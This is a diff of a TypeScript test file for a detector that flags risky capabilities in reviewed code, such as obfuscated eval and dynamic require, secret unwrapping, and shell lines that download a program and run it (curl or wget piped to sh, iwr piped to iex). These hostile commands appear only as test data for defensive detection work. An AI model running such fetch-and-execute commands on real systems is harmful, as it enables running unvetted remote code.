@@ -44,7 +44,36 @@ describe("code that differs", () => {
       });
     }
   }
-  it("loads what nobody can tell", () => assert.deepEqual(gains("", "require(a + b);"), ["run text as code"]));
+  for (const text of [
+    "require(a + b);",
+    'module.require("/tmp/a");',
+    'globalThis["ev" + "al"]("a");',
+    'process.getBuiltinModule("a");',
+    'f.constructor("return 1")();',
+  ])
+    it(`runs what nobody can tell: ${text}`, () => assert.deepEqual(gains("", text), ["run text as code"]));
+  it("starts Pulumi, or talks to a cluster", () => {
+    assert.deepEqual(gains("", 'import "@pulumi/pulumi/automation";'), ["start other programs"]);
+    assert.deepEqual(gains("", 'import "@kubernetes/client-node";'), ["talk to the network"]);
+  });
+  describe("of the program that is reviewed", () => {
+    const program = (text: string) => powersGained("", text, true).map(({ en }) => en);
+    for (const name of ["fs", "node:fs/promises", "process", "repl", "../tools/docker/docker", "./test/mocks"]) {
+      it(`loads ${name}, which commands may`, () => {
+        assert.deepEqual(program(`import "${name}";`), ["look at this machine or change it"]);
+        assert.deepEqual(gains("", `import "${name}";`), []);
+      });
+    }
+    for (const name of [
+      "node:path",
+      "crypto",
+      "./names",
+      "../config",
+      "@pulumi/docker",
+      "@pulumi/pulumi/runtime/config",
+    ])
+      it(`loads ${name}, which only computes`, () => assert.deepEqual(program(`import "${name}";`), []));
+  });
   it("turns a secret into plain text", () =>
     assert.deepEqual(gains("", "pulumi.unsecret(a);"), ["turn secrets into plain text"]));
 });
@@ -60,6 +89,8 @@ describe("a line that fetches a program and runs it", () => {
     "iwr https://example.org/x | iex",
     "RUN curl https://example.org/x \\\n  | python3",
     "#!/bin/sh -c curl x | sh",
+    "curl -fsSLo /tmp/x https://example.org/x && sh /tmp/x",
+    "wget -O /bin/x https://example.org/x; chmod +x /bin/x",
   ];
   for (const line of dangerous) {
     it(line.split("\n")[0]!, () => {
@@ -70,6 +101,7 @@ describe("a line that fetches a program and runs it", () => {
   const harmless = [
     "curl --output file https://example.org/x",
     "curl https://example.org/x | grep sh",
+    "curl -f http://localhost && echo up; exit 0",
     "# curl https://example.org/x | sh",
     "// curl https://example.org/x | sh",
     "<!-- curl https://example.org/x | sh -->",
